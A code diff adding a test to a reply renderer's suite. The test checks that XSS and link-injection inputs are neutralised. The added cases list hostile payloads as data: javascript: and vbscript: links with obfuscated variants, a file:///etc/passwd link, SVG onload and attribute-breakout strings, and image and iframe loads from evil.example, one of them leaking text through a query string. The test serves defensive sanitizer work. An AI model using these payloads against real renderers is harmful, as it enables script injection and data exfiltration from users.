@@ -64,6 +64,37 @@ describe("the rendered text of a reply", () => {
     expect(html("3~5 days, 10~20 euros")).not.toContain("<del>");
   });
 
+  it.each([
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\nscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](\u0001javascript:alert(1))",
+    "[x]( javascript:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](vbscript:x)",
+    "[x](file:///etc/passwd)",
+    "[x](blob:https://clarify.example/1)",
+    "<javascript:alert(1)>",
+    "[x][1]\n\n[1]: javascript:alert(1)",
+    "![x](javascript:alert(1))",
+    "![x](https://evil.example/?q=what-they-said)",
+    "![x][1]\n\n[1]: https://evil.example/p.png",
+    "[![x](https://evil.example/p.png)](javascript:alert(1))",
+    '<a href="javascript:alert(1)">x</a><iframe src="https://evil.example">',
+    '<svg onload="alert(1)"><style>@import "https://evil.example"</style>',
+    '[x](https://example.com "\\" onmouseover=\\"alert(1)")',
+  ])("leads nowhere but to a page, and loads nothing: %j", (source) => {
+    for (const growing of [false, true]) {
+      const shown = html(source, growing);
+      for (const [, address = ""] of shown.matchAll(/(?:href|src|action)="([^"]*)"/g)) {
+        expect(address).toMatch(/^(https?:|mailto:|#|$)/);
+      }
+      expect(shown).not.toMatch(/<(img|iframe|script|style|svg|object|embed|form|input|meta|link|base)\b/i);
+      expect(shown.replaceAll(/>[^<]*</g, "><")).not.toMatch(/\son[a-z]+=/i);
+    }
+  });
+
   it("runs no HTML", () => {
     expect(html("<img src=x onerror=alert(1)>")).not.toContain("<img");
   });
